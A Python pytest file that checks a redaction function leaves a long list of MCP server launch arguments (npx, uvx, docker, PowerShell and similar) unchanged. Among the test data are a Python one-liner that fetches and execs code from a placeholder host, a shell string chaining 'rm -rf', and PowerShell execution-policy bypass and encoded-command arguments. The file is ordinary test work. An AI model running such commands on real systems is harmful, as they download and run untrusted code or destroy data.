"""Arguments as they are really written, which must come out as they went in: redacted is not dropped."""

from __future__ import annotations

import pytest

from discovery.redact.args import redact_args

UUID = "3fa85f64-5717-4562-b3fc-2c963f66afa6"
SHA = "3f2c1d9b8a7e6f5d4c3b2a1908f7e6d5c4b3a291"
DIGEST = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

HARMLESS: list[list[str]] = [
    ["-y", "@modelcontextprotocol/server-filesystem", "/srv/data"],
    ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~/Desktop"],
    ["airtable-mcp-server@^1.7.0"],
    ["-p", "@acme/toolbox@2.1.0", "acme-mcp", "--stdio"],
    ["--package=@acme/toolbox", "-c", "acme-mcp --stdio"],
    ["-y", "--registry=https://npm.corp.example", "--prefix", "/opt/x", "@corp/crm-mcp"],
    ["-y", "github:acme/mcp-server-jira#v1.2.0"],
    ["-y", f"git+https://github.com/Acme/MCP-Server-Jira.git#{SHA}"],
    ["-y", "https://files.acme.example/mcp/acme-mcp-1.4.0.tgz"],
    ["/d", "/s", "/c", 'npx -y @modelcontextprotocol/server-filesystem@2025.8.21 "C:\\Users\\dana\\My Docs"'],
    ["C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npx-cli.js", "-y", "@upstash/context7-mcp"],
    ["exec", "--yes", "--package=@acme/toolbox@2.1.0", "--", "acme-mcp"],
    ["-y", "npm:@acme/toolbox@2.1.0"],
    ["-y", "tb@npm:@acme/toolbox@2.1.0"],
    ["-y", "$MCP_PKG"],
    ["run", "-A", "--unstable", "npm:@acme/toolbox@2.1.0"],
    ["run", "-N", "https://deno.land/x/acme_mcp@v0.3.1/mod.ts"],
    ["--inspect=9229", "--max-old-space-size=4096", "-r", "dotenv/config", "dist/main.js"],
    ["-e", "require('child_process').spawn('npx',['-y','@acme/toolbox'])"],
    [
        "/home/dana/.npm/_npx/5a9d879542beca3a/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
        "/srv",
    ],
    [
        "C:\\Users\\dana\\AppData\\Local\\npm-cache\\_npx\\5a9d879542beca3a\\node_modules\\@upstash\\context7-mcp\\x.js"
    ],
    ["mcp-server-git", "--repository", "/srv/repo"],
    ["--from", "git+https://github.com/Oraios/Serena@v0.1.4", "serena-mcp-server"],
    ["--from", f"git+https://github.com/o/r@{SHA}", "r"],
    ["--from", "git+ssh://git@gitlab.corp.example/ai/crm-mcp.git@main", "crm-mcp"],
    ["--from", "mcp-server-acme[crm,sap]>=1.2,<2", "acme-mcp"],
    ["--from", "mcp-secret-scanner==1.0.2", "acme-mcp"],
    ["--python", "3.12", "--with", "httpx", "--index-url", "https://pypi.corp.example/simple", "corp-mcp"],
    ["--from", "acme-mcp @ git+https://github.com/acme/crm-mcp@main", "crm-mcp"],
    ["--from", "https://files.acme.example/acme_mcp-1.0-py3-none-any.whl", "acme-mcp"],
    [
        "run",
        "--with-editable",
        "/home/dana/src/lib",
        "fastmcp",
        "run",
        "/home/dana/src/weather/server.py:app",
    ],
    ["-3.12", "-m", "mcp_server_time"],
    ["-c", "import urllib.request as u;exec(u.urlopen('https://x.example/a').read())"],
    ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"],
    ["run", "-i", "--rm", f"ghcr.io/github/github-mcp-server@{DIGEST}"],
    ["run", "-i", f"mcp/fetch:1.0@{DIGEST}"],
    [
        "run",
        "-i",
        "-v",
        "/srv/data:/data:ro",
        "--mount",
        "type=bind,src=/home/dana,dst=/repo",
        "--name",
        "fs",
    ],
    ["run", "-i", "-u", "1000:1000", "mcp/filesystem:1.0.2", "/data"],
    ["run", "-i", "-u", "node:node", "-p", "8000:8000", "img"],
    ["run", "-e", "AWS_PROFILE=default", "-e", "NODE_ENV=production", "-e", "MAX_TOKENS=4096", "img"],
    ["compose", "-f", "/home/dana/src/crm/compose.yaml", "run", "--rm", "-T", "mcp"],
    ["Azure.Mcp@0.5.8", "--yes", "--", "server", "start"],
    ["run", "github.com/mark3labs/mcp-filesystem-server@v0.11.1", "/srv"],
    ["run", f"github:acme/crm-mcp/{SHA}#server"],
    ["jdbc@quarkiverse/quarkus-mcp-servers"],
    ["-jar", "/opt/acme/acme-mcp-1.4.0.jar"],
    ["-c", "npx -y @acme/toolbox; rm -rf /opt/x"],
    ["-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "npx -y @acme/toolbox"],
    ["-EncodedCommand", "bgBwAHgA"],
    ["-i", "/home/dana/.ssh/id", "dana@build01.corp.example", "npx -y @acme/toolbox"],
    ["${CLAUDE_PLUGIN_ROOT}/servers/crm", "--config", "${CLAUDE_PLUGIN_ROOT}/config.json"],
    ["-y", "mcp-remote", "https://mcp.acme.example/mcp", "3334", "--transport", "http-only"],
    ["-y", "mcp-remote", "https://mcp.acme.example/mcp", "--header", "X-Tenant: acme"],
    ["-y", "supergateway", "--stdio", "npx -y @acme/toolbox@2.1.0", "--port", "8000"],
    ["--project", UUID],
    ["--project-id", UUID, "--tenant-id", UUID, "--subscription", UUID],
    [UUID],
    ["--sheet-id", "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"],
    ["--since", "2025-11-21T10:00:00Z", "--until", "20251121T100000Z"],
    ["--max-tokens", "4096", "--token-limit", "8000", "--tokenizer", "cl100k_base"],
    ["--model", "claude-3-5-sonnet-20241022", "--embedding", "text-embedding-3-small"],
    ["/srv/assets/index-BfG3kd9a7xQ2.js", "dist/chunk.9f86d081884c7d65.mjs"],
    ["--integrity", "sha512-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
    ["--key-file", "/etc/ssl/key.pem", "--cert", "/etc/ssl/cert.pem"],
    ["--key", "/etc/ssl/key.pem", "--credentials", "./credentials.json", "--cookie", "cookies.txt"],
    ["--auth", "/path", "--auth-mode", "oauth", "--auth-type", "basic"],
    ["--auth", "none", "server.py"],
    ["--no-auth", "/srv/data"],
    ["--use-token", "crm-mcp"],
    ["--token", "--verbose"],
    ["--password"],
    ["--public-key", "Xk39dQ"],
    ["--token-file", "/run/secrets/token", "--password-stdin", "--env-file", ".env"],
    ["--author", "dana", "--keyboard", "us", "--keyspace", "crm", "--profile", "dana-42"],
    ["--header-timeout", "30", "--session-timeout", "600"],
    ["--connection-string", "Server=db.example;Trusted_Connection=True"],
    ["--connection-string", "postgresql://localhost/crm"],
    ["--dsn", "sqlite:///srv/crm.db"],
    ["--database-url", "postgresql://dana@db.example/crm"],
    ["--config", '{"limit": 5, "maxTokens": 4096, "url": "https://h.example/x", "name": "crm"}'],
    ["--config", '{"limit":5,"nested":{"a":[1,2,{"b":null}]},"ok":true}'],
    ["--json", "{not json at all"],
    ["Generate a financial status report about the company", "Berlin", "40.7128", "-74.0060"],
    ["transactions:read,reimbursements:read", "T2M,PRECTOTCORR,WS10M", "Qwen/Qwen2-72B-Instruct"],
    ["--urls", "Paradex:https://docs.paradex.example/llms.txt", "--allowed-origins", "*"],
    ["--db-path", "/mcp/db.sqlite", "--vault", "/Users/dana/Obsidian Vault"],
    ["--features=account,database,docs", "--read-only", "--project-ref=abcdefghijklmnop"],
    ["connect", "--transport", "streamable-http", "--host", "::1", "--port=8080"],
    ["image:latest", "acme/secret-service:1.2", "localhost:5000/acme/token-mcp:2.0"],
    ["", " ", "-", "--", "=", "==", "a=", "=b", "-=", "--=x", "''", '""', "\\", "%PATH%", "$HOME", "~"],
    ["--label", "it's here", "--query", "select * from t where a='b'", "--filter", "a=b;c=d"],
    ["-m", "bitable_mcp", "-X", "utf8", "-u", "server.py"],
    ["--tools", "all", "--toolsets", "repos,issues", "--scopes", "read:user repo"],
]


@pytest.mark.parametrize("args", HARMLESS, ids=lambda args: " ".join(args)[:60])
def test_harmless_arguments_come_out_unchanged(args: list[str]) -> None:
    redacted = redact_args(args)
    assert list(redacted.args) == args
    assert redacted.secrets == ()


def test_there_are_enough_of_them() -> None:
    assert len(HARMLESS) >= 60
